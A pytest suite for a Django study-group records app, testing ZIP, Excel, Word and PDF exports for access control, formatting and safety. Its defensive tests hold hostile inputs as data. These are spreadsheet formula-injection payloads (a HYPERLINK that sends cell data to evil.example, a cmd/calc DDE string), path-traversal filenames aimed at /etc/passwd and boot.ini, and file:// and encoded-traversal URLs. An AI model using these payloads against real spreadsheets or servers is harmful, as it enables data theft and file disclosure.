"""Documents people download and print: the group-year archive, spreadsheets, Word files, PDFs, the digest's
speeches section and the year summary draft."""

import datetime
import io
import re
import shutil
import subprocess
import unicodedata
import zipfile
from pathlib import PurePosixPath

import pytest
from django.contrib.staticfiles import finders
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from docx import Document
from openpyxl import load_workbook

from audits.tests.factories import ActionFactory, ObserverVisitFactory
from conftest import needs_weasyprint
from plans.tests.factories import (
    MaterialFactory,
    PlanTopicFactory,
    ResearchReportFactory,
    ResearchTopicFactory,
    StudyPlanFactory,
)
from reports import digest, narrative, pdf, services
from reports.figures import year_figures
from sessions.tests.factories import AttendanceFactory, StudySessionFactory, SubmissionFactory
from studygroup import documents
from studygroup.tests.factories import (
    MembershipFactory,
    OrganizationFactory,
    PersonFactory,
    RoleGrantFactory,
    StudyGroupFactory,
    UserFactory,
    user_with_role,
)

pytestmark = pytest.mark.django_db


def at(year, month, day=10):
    return datetime.datetime(year, month, day, 1, tzinfo=datetime.UTC)


def session_in(group, month, **kwargs):
    return StudySessionFactory(
        group=group, starts_at=at(2026, month), ends_at=at(2026, month) + datetime.timedelta(hours=2), **kwargs
    )


def login_person(organization, **kwargs):
    """A person with a login (and no role yet)."""
    return PersonFactory(organization=organization, user=UserFactory(), **kwargs)


# The group-year archive ----------------------------------------------------------------------


@pytest.fixture
def archive_case():
    county = OrganizationFactory(name="清河县委")
    town = OrganizationFactory(parent=county, name="城关镇党委")
    group = StudyGroupFactory(organization=town)
    session = session_in(group, 10, title="十月集体学习")
    author = login_person(town, name="张明")
    colleague = login_person(town, name="李华")
    for person in (author, colleague):
        MembershipFactory(group=group, person=person)
        AttendanceFactory(session=session, person=person, status="present")
    leader = login_person(town, name="王书记")
    MembershipFactory(group=group, person=leader, role="leader")
    observer = login_person(county, name="赵旁听")
    RoleGrantFactory(person=observer, organization=county, role="observer")
    day = datetime.date(2026, 10, 20)
    submissions = {
        "approved": SubmissionFactory(
            group=group, person=author, status="approved", title="公开心得", submitted_on=day
        ),
        "submitted": SubmissionFactory(
            group=group, person=colleague, kind="notes", status="submitted", title="待审笔记", submitted_on=day
        ),
        "draft": SubmissionFactory(group=group, person=author, status="draft", title="草稿心得", submitted_on=day),
    }
    visit = ObserverVisitFactory(
        session=session, organization=county, observer=observer, report="旁听报告正文", findings="研讨不够聚焦"
    )
    return {
        "county": county,
        "town": town,
        "group": group,
        "author": author,
        "leader": leader,
        "observer": observer,
        "submissions": submissions,
        "visit": visit,
    }


def archive_url(group, year=2026):
    return reverse("reports:archive", args=[group.pk, year])


def entries(response) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def numbered(names, prefix: str) -> set[int]:
    """The record ids of a folder of the archive (its entries are named ``<folder>/<id>-…``)."""
    return {int(re.match(r"\d+", name.split("/", 1)[1])[0]) for name in names if name.startswith(prefix)}


def test_members_and_observers_get_no_archive(client, archive_case):
    group = archive_case["group"]
    for person in (archive_case["author"], archive_case["observer"]):
        client.force_login(person.user)
        response = client.get(archive_url(group))
        assert response.status_code == 404
        assert response.get("Content-Type", "").startswith("text/html")
    client.force_login(user_with_role("staff", OrganizationFactory()))
    assert client.get(archive_url(group)).status_code == 404


def test_group_page_offers_the_archive_only_to_its_readers(client, archive_case):
    group = archive_case["group"]
    link = archive_url(group, timezone.localdate().year)
    client.force_login(archive_case["author"].user)
    assert link not in client.get(reverse("core:group-detail", args=[group.pk])).content.decode()
    client.force_login(archive_case["leader"].user)
    assert link in client.get(reverse("core:group-detail", args=[group.pk])).content.decode()


@needs_weasyprint
@pytest.mark.parametrize("reader", ["town staff", "county viewer", "group leader"])
def test_archive_holds_exactly_what_its_reader_reads_as_pages(client, archive_case, reader):
    group = archive_case["group"]
    user = {
        "town staff": lambda: user_with_role("staff", archive_case["town"]),
        "county viewer": lambda: user_with_role("viewer", archive_case["county"]),
        "group leader": lambda: archive_case["leader"].user,
    }[reader]()
    client.force_login(user)
    response = client.get(archive_url(group))
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"]
    files = entries(response)
    text = b"\n".join(content for name, content in files.items() if name.endswith(".txt")).decode()
    submission_ids = numbered(files, "03-")
    visit_ids = numbered(files, "04-")
    for submission in archive_case["submissions"].values():
        readable = client.get(reverse("sessions:submission-detail", args=[submission.pk])).status_code == 200
        assert (submission.pk in submission_ids) is readable, submission.title
        assert (submission.title in text) is readable, submission.title
    visit = archive_case["visit"]
    readable = client.get(reverse("audits:visit-detail", args=[visit.pk])).status_code == 200
    assert (visit.pk in visit_ids) is readable and ("旁听报告正文" in text) is readable
    assert "草稿心得" not in text
    expected = {
        "town staff": ({"公开心得", "待审笔记"}, True),
        "county viewer": ({"公开心得", "待审笔记"}, True),
        "group leader": ({"公开心得", "待审笔记"}, False),
    }[reader]
    titles = {s.title for s in archive_case["submissions"].values() if s.pk in submission_ids}
    assert (titles, bool(visit_ids)) == expected
    assert any(name.startswith("02-") and name.endswith(".pdf") for name in files)
    summary_page = client.get(reverse("reports:summary") + f"?org={archive_case['town'].pk}&year=2026")
    assert any(name.startswith("05-") for name in files) is (summary_page.status_code == 200)


def test_archive_years_and_ids_out_of_range_answer_404(client, archive_case):
    client.force_login(user_with_role("staff", archive_case["town"]))
    group = archive_case["group"]
    for year in (0, 1999, 2101, 99999999999999999999):
        assert client.get(f"/reports/archive/{group.pk}/{year}.zip").status_code == 404, year
    assert client.get(f"/reports/archive/{'9' * 40}/2026.zip").status_code == 404


def unsafe(name: str) -> bool:
    return (
        name.startswith("/")
        or "\\" in name
        or ".." in PurePosixPath(name).parts
        or ".." in name
        or any(unicodedata.category(char)[0] == "C" for char in name)
    )


@needs_weasyprint
def test_zip_entry_names_from_people_and_titles_never_make_a_path(client):
    town = OrganizationFactory(name="城关镇党委")
    group = StudyGroupFactory(organization=town)
    session = session_in(group, 3, title="/etc/../../根目录\u202e学习\x1f")
    author = PersonFactory(organization=town, name="../../etc/passwd\x07")
    SubmissionFactory(
        group=group,
        person=author,
        status="approved",
        submitted_on=datetime.date(2026, 3, 12),
        original_name="..\\..\\boot.ini",
        file=ContentFile(b"%PDF-1.4", name="a.pdf"),
    )
    ObserverVisitFactory(session=session, observer=PersonFactory(name="..\\..\\C:\\Windows\r\n"))
    client.force_login(user_with_role("staff", town))
    names = list(entries(client.get(archive_url(group))))
    assert len(names) == 5  # session PDF, submission text and file, visit, summary (no plan)
    assert [name for name in names if unsafe(name)] == []
    assert all(name.split("/")[0][:3] in {"02-", "03-", "04-", "05-"} for name in names)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("../../etc/passwd", "_._etc_passwd"),
        ("..", "_"),
        ("", "_"),
        ("C:\\Windows\\system32", "C__Windows_system32"),
        ("张明\r\n\t心得", "张明 心得"),
        ("\u202egnp.exe", "gnp.exe"),
        ("a\x00b\x1fc", "abc"),
    ],
)
def test_entry_name_is_one_harmless_part(text, expected):
    assert documents.entry_name(text) == expected


# Spreadsheets never carry user text as a formula --------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    ' =HYPERLINK("http://evil.example","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def assert_text_cells(cells, values):
    by_value = {cell.value: cell for cell in cells if cell.value in values}
    assert set(by_value) == set(values)
    assert {value: cell.data_type for value, cell in by_value.items()} == dict.fromkeys(values, "s")


def test_ledger_writes_every_user_text_as_text(client):
    county = OrganizationFactory()
    group = StudyGroupFactory(organization=OrganizationFactory(parent=county, name=FORMULAS[1]))
    for month, title in enumerate(FORMULAS, start=1):
        session = session_in(group, month, title=title, location=FORMULAS[0])
        AttendanceFactory(session=session, person=PersonFactory(name=title), status="present")
    client.force_login(user_with_role("viewer", county))
    response = client.get(reverse("reports:ledger") + f"?org={county.pk}&year=2026")
    assert "no-store" in response["Cache-Control"]
    sessions, per_session, per_member = load_workbook(io.BytesIO(response.content)).worksheets
    assert [sessions.cell(row, 4).value for row in range(2, 9)] == FORMULAS
    for sheet in (sessions, per_session, per_member):
        assert_text_cells([cell for row in sheet.iter_rows() for cell in row], FORMULAS)
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_compliance_xlsx_writes_names_as_text(client):
    county = OrganizationFactory()
    town = OrganizationFactory(parent=county, name=FORMULAS[0])
    StudyGroupFactory(organization=town, name="@SUM(A1:A2)")
    client.force_login(user_with_role("viewer", county))
    response = client.get(reverse("audits:compliance-xlsx") + f"?org={county.pk}&year=2026")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert_text_cells([cell for row in sheet.iter_rows() for cell in row], [FORMULAS[0], "@SUM(A1:A2)"])
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_export_year_that_is_no_year_answers_400(client):
    county = OrganizationFactory()
    client.force_login(user_with_role("viewer", county))
    for year in ("abc", "²⁰²⁶", "1999", "2101", "9" * 5000, "-1", "2026.0"):
        for name in ("reports:ledger", "reports:summary-docx", "reports:summary-pdf"):
            response = client.get(reverse(name) + f"?org={county.pk}&year={year}")
            assert response.status_code == 400, (name, year[:8])


# PDFs fetch only our static files -------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://127.0.0.1:8000/static/vendor/bootstrap/bootstrap.min.css",
        "https://example.com/static/x.css",
        f"{pdf.BASE_URL}static/../studygroup/settings.py",
        f"{pdf.BASE_URL}static/%2e%2e/studygroup/settings.py",
        f"{pdf.BASE_URL}media/materials/1/secret.pdf",
        f"{pdf.BASE_URL}static/nothing-here.css",
    ],
)
def test_pdf_fetcher_refuses_everything_but_our_static_files(url):
    assert pdf.static_path(url) is None
    with pytest.raises(ValueError, match="Only our static files"):
        pdf._fetcher().fetch(url)


def test_pdf_fetcher_serves_a_static_file():
    response = pdf._fetcher().fetch(f"{pdf.BASE_URL}static/css/print.css")
    with open(finders.find("css/print.css"), "rb") as handle:
        assert response.read() == handle.read()
    assert response.content_type == "text/css"


@needs_weasyprint
def test_pdf_rendering_never_reads_a_local_file(monkeypatch, tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG\r\n\x1a\n")
    seen = []
    original = pdf.static_path
    monkeypatch.setattr(pdf, "static_path", lambda url: seen.append(url) or original(url))
    from django.template import engines

    template = engines["django"].from_string(
        f'<html lang="zh-CN"><body><img src="file://{secret}"><p>正文</p></body></html>'
    )
    monkeypatch.setattr(pdf, "render_to_string", lambda name, context: template.render(context))
    assert pdf.render_pdf("any.html", {}).startswith(b"%PDF")
    assert seen == [f"file://{secret}"]


# Word documents use real heading styles -------------------------------------------------------


def style_font(document, name):
    element = document.styles[name].element.rPr.rFonts
    return element.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia")


def test_summary_docx_has_title_and_heading_styles_with_official_fonts(client):
    town = OrganizationFactory(name="城关镇党委")
    group = StudyGroupFactory(organization=town)
    session_in(group, 3, title="学习全会精神")
    client.force_login(user_with_role("staff", town))
    response = client.get(reverse("reports:summary-docx") + f"?org={town.pk}&year=2026")
    assert "no-store" in response["Cache-Control"]
    document = Document(io.BytesIO(response.content))
    styled = [(p.style.name, p.text) for p in document.paragraphs if p.style.name != "Normal"]
    assert styled == [
        ("Title", "城关镇党委"),
        ("Title", "2026年理论学习中心组学习情况总结"),
        ("Heading 1", "一、基本情况"),
        ("Heading 1", "二、主要做法和成效"),
        ("Heading 1", "三、存在的问题"),
        ("Heading 1", "四、下一步打算"),
        ("Heading 1", "附:年度数据"),
    ]
    assert [style_font(document, name) for name in ("Normal", "Title", "Heading 1", "Heading 2")] == [
        "仿宋_GB2312",
        "方正小标宋简体",
        "黑体",
        "楷体",
    ]
    assert document.styles["Heading 1"].font.bold is False
    assert (
        document.styles["Heading 1"]
        .element.pPr.find("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}outlineLvl")
        .get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}val")
        == "0"
    )


def test_plan_docx_months_are_level_two_headings(client):
    town = OrganizationFactory(name="城关镇党委")
    plan = StudyPlanFactory(
        group=StudyGroupFactory(organization=town), year=2026, main_line="主线", months={3: "三月主题"}
    )
    PlanTopicFactory(plan=plan, month=3, title="三月专题")
    client.force_login(user_with_role("staff", town))
    response = client.get(reverse("plans:plan-docx", args=[plan.pk]))
    document = Document(io.BytesIO(response.content))
    styles = {(p.style.name, p.text) for p in document.paragraphs}
    assert ("Heading 1", "一、全年学习主线") in styles
    assert ("Heading 2", "3月:三月主题") in styles
    assert ("Normal", "主线") in styles


# The digest's latest speeches ----------------------------------------------------------------


def test_digest_speeches_come_from_the_months_supplementary_topics_and_their_materials(client):
    county = OrganizationFactory(name="清河县委")
    group = StudyGroupFactory(organization=OrganizationFactory(parent=county, name="城关镇党委"))
    plan = StudyPlanFactory(group=group, year=2026, status="approved")
    speech = PlanTopicFactory(
        plan=plan, month=10, title="学习总书记重要讲话精神", is_supplementary=True, added_on=datetime.date(2026, 10, 8)
    )
    PlanTopicFactory(plan=plan, month=10, title="计划内专题")
    PlanTopicFactory(plan=plan, month=9, title="九月补充", is_supplementary=True, added_on=datetime.date(2026, 9, 3))
    MaterialFactory(group=group, topic=speech, title="讲话原文", published_at=at(2026, 10, 9))
    MaterialFactory(group=group, title="其他资料", published_at=at(2026, 10, 9))
    other = StudyGroupFactory(organization=OrganizationFactory(name="外县"))
    PlanTopicFactory(plan=StudyPlanFactory(group=other, year=2026), month=10, title="外县讲话", is_supplementary=True)
    assert digest.latest_speeches(county.path, 2026, 10) == [
        {"key": f"topic-{speech.pk}", "org": "城关镇党委", "title": "学习总书记重要讲话精神", "materials": ["讲话原文"]}
    ]
    item = services.digest_compile(organization=county, year=2026, month=10)
    client.force_login(user_with_role("staff", county))
    page = client.get(item.get_absolute_url()).content.decode()
    assert "最新重要讲话精神" in page and "学习总书记重要讲话精神" in page and "讲话原文" in page


def test_digest_without_speeches_drops_the_section(client):
    county = OrganizationFactory()
    session_in(StudyGroupFactory(organization=county), 10)
    item = services.digest_compile(organization=county, year=2026, month=10)
    assert item.content["speeches"] == []
    client.force_login(user_with_role("staff", county))
    page = client.get(item.get_absolute_url()).content.decode()
    assert "最新重要讲话精神" not in page and "本月学习主题" in page


# The year summary draft --------------------------------------------------------------------


def rich_group():
    town = OrganizationFactory(name="城关镇党委")
    group = StudyGroupFactory(organization=town)
    plan = StudyPlanFactory(
        group=group,
        year=2026,
        status="approved",
        main_line="深入学习贯彻党的二十届四中全会精神。",
        months={3: "学习全国两会精神"},
    )
    topic = PlanTopicFactory(plan=plan, month=3, title="学习政府工作报告")
    PlanTopicFactory(plan=plan, month=4, title="未学专题")
    session = session_in(group, 3, title="学习政府工作报告专题研讨", kind="reading_class")
    session.topics.add(topic)
    for status in ("present", "present", "absent"):
        AttendanceFactory(session=session, status=status)
    SubmissionFactory(
        group=group,
        status="approved",
        is_recommended=True,
        title="在学思践悟中担当作为",
        person=PersonFactory(organization=town, name="张明"),
        submitted_on=datetime.date(2026, 3, 20),
    )
    ResearchReportFactory(
        topic=ResearchTopicFactory(group=group),
        title="关于基层治理的调研报告",
        submitted_by=PersonFactory(organization=town, name="李华"),
    )
    ObserverVisitFactory(session=session, findings="研讨发言准备不足\n联系实际不够")
    ActionFactory(group=group, problem="会前方案未提前印发", due_on=datetime.date(2026, 4, 30))
    StudyPlanFactory(
        group=group, year=2027, main_line="学习贯彻党的二十届五中全会精神", months={1: "学习中央经济工作会议精神"}
    )
    return town


def test_rich_year_summary_draft_has_the_four_parts_from_the_records():
    town = rich_group()
    text = narrative.draft(organization=town, year=2026, figures=year_figures(town, 2026))
    parts = text.split("\n\n")
    assert parts[0::2] == ["一、基本情况", "二、主要做法和成效", "三、存在的问题", "四、下一步打算"]
    overview, achievements, problems, next_steps = parts[1::2]
    assert overview.startswith("2026年,城关镇党委共开展集中学习1次,其中专题读书班1次。")
    assert "年度计划安排学习专题2个,已学习1个。" in overview
    assert "全年学习以“深入学习贯彻党的二十届四中全会精神”为主线。" in achievements
    assert "“学习全国两会精神”" in achievements and "“学习政府工作报告专题研讨”" in achievements
    assert "《在学思践悟中担当作为》(张明)" in achievements
    assert "《关于基层治理的调研报告》(李华)" in achievements
    assert "有1个计划专题未组织学习。" in problems
    assert "尚有1项整改事项未完成,其中1项已超过完成时限,包括“会前方案未提前印发”等。" in problems
    assert "列席旁听发现的问题有:“研讨发言准备不足”“联系实际不够”。" in problems
    assert "“八有”中尚未达标的项目:" in problems and "有总结" not in problems
    assert next_steps.startswith("2027年学习计划以“学习贯彻党的二十届五中全会精神”为主线。")
    assert "“学习中央经济工作会议精神”" in next_steps


def test_empty_year_summary_draft_says_there_are_no_records():
    town = OrganizationFactory(name="白沙镇党委")
    StudyGroupFactory(organization=town)
    text = narrative.draft(organization=town, year=2026, figures=year_figures(town, 2026))
    assert text == (
        "一、基本情况\n\n"
        "系统中尚无白沙镇党委2026年的学习记录:没有学习计划、学习会、学习材料、列席旁听或整改事项。\n\n"
        "四、下一步打算\n\n"
        "2027年学习计划尚待制定。"
    )


@needs_weasyprint
@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="pdftotext (apt package poppler-utils) is not installed")
def test_summary_pdf_prints_the_four_parts(client, tmp_path):
    town = rich_group()
    client.force_login(user_with_role("staff", town))
    response = client.get(reverse("reports:summary-pdf") + f"?org={town.pk}&year=2026")
    assert "no-store" in response["Cache-Control"]
    path = tmp_path / "summary.pdf"
    path.write_bytes(response.content)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    text = re.sub(r"\d*\x0c", "", text.replace("\n", ""))  # lines and page breaks (and page numbers) join up
    for heading in ("一、基本情况", "二、主要做法和成效", "三、存在的问题", "四、下一步打算", "会前方案未提前印发"):
        assert heading in text


def test_export_of_an_organization_id_too_long_for_the_database_answers_404(client):
    county = OrganizationFactory()
    client.force_login(user_with_role("viewer", county))
    for name in ("reports:ledger", "reports:summary-docx", "reports:summary-pdf"):
        assert client.get(reverse(name) + f"?org={'9' * 40}&year=2026").status_code == 404, name


def summary_queries(client, size: int) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    county = OrganizationFactory()
    for index in range(size):
        group = StudyGroupFactory(organization=OrganizationFactory(parent=county))
        plan = StudyPlanFactory(group=group, year=2026, status="approved")
        session = session_in(group, 3 + index % 6, title=f"专题{index}")
        session.topics.add(PlanTopicFactory(plan=plan, month=3))
        AttendanceFactory(session=session, status="absent")
        SubmissionFactory(group=group, status="approved", is_recommended=True, submitted_on=datetime.date(2026, 4, 1))
        ResearchReportFactory(topic=ResearchTopicFactory(group=group))
        ObserverVisitFactory(session=session, findings=f"问题{index}")
        ActionFactory(group=group, problem=f"整改{index}")
    client.force_login(user_with_role("viewer", county))
    url = reverse("reports:summary") + f"?org={county.pk}&year=2026"
    with CaptureQueriesContext(connection) as context:
        response = client.get(url)
    assert response.status_code == 200 and "三、存在的问题" in response.content.decode()
    return len(context)


def test_summary_page_query_count_is_the_same_for_2_and_8_groups(client):
    assert summary_queries(client, 2) == summary_queries(client, 8)


def test_a_saved_summary_keeps_its_typed_headings_as_word_headings():
    from reports import summary_docs

    town = OrganizationFactory(name="城关镇党委")
    text = "\n".join(
        [
            "一、基本情况",
            "全年开展集中学习12次。",
            "(一)强化理论武装",
            "一、这一段虽以序号开头,但它是正文里的一句完整的话,并不是标题。",
            "二、下一步打算",
        ]
    )
    content = summary_docs.docx(organization=town, year=2026, figures=year_figures(town, 2026), text=text)
    styled = [(p.style.name, p.text) for p in Document(io.BytesIO(content)).paragraphs][2:7]
    assert styled == [
        ("Heading 1", "一、基本情况"),
        ("Normal", "全年开展集中学习12次。"),
        ("Heading 2", "(一)强化理论武装"),
        ("Normal", "一、这一段虽以序号开头,但它是正文里的一句完整的话,并不是标题。"),
        ("Heading 1", "二、下一步打算"),
    ]


def test_summary_page_with_a_year_of_other_digits_shows_this_year(client):
    county = OrganizationFactory()
    client.force_login(user_with_role("viewer", county))
    for year in ("²⁰²⁶", "٢٠٢٦", "9" * 5000):
        response = client.get(reverse("reports:summary") + f"?org={county.pk}&year={year}")
        assert response.status_code == 200
        assert f"{timezone.localdate().year}年终总结" in response.content.decode()
